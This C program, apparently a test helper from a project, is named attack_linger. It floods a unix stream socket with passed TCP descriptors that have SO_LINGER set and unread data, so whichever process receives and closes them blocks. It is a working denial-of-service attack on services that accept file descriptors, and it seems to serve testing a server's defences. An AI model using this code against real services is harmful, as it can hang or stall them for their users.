// SPDX-License-Identifier: Apache-2.0
/*
 * Makes whoever reads from a unix stream socket close a file for us that takes long to close: a TCP
 * socket with data that its peer does not take, and SO_LINGER. Usage: attack_linger SOCKET stay|go
 * COUNT. Each of COUNT connections sends one such socket and a byte; with "go" it is closed at
 * once, unread. Says "sent" and stays, as the peer that does not take its data.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "full_socket.h"

static void fail(const char* what) {
  perror(what);
  exit(1);
}

static void raise_loopback(void) {
  struct ifreq request = {.ifr_name = "lo"};
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  ioctl(fd, SIOCGIFFLAGS, &request);
  request.ifr_flags |= IFF_UP;
  ioctl(fd, SIOCSIFFLAGS, &request); /* an ordinary user finds it up */
  close(fd);
}

static void send_it(int to, int fd) {
  char control[CMSG_SPACE(sizeof(int))] = {0};
  char byte = 'x';
  struct iovec data = {&byte, 1};
  struct msghdr message = {
      .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)};
  struct cmsghdr* part = CMSG_FIRSTHDR(&message);
  part->cmsg_level = SOL_SOCKET;
  part->cmsg_type = SCM_RIGHTS;
  part->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(part), &fd, sizeof(int));
  if (sendmsg(to, &message, 0) != 1) fail("sendmsg");
}

int main(int argc, char** argv) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  if (argc != 4) return 2;
  raise_loopback();
  strncpy(address.sun_path, argv[1], sizeof(address.sun_path) - 1);
  for (int i = 0; i < atoi(argv[3]); i++) {
    int to = socket(AF_UNIX, SOCK_STREAM, 0);
    int full = full_socket();
    if (connect(to, (struct sockaddr*)&address, sizeof(address))) fail("connect");
    send_it(to, full);
    close(full);
    if (!strcmp(argv[2], "go")) close(to);
  }
  puts("sent");
  fflush(stdout);
  pause();
  return 0;
}
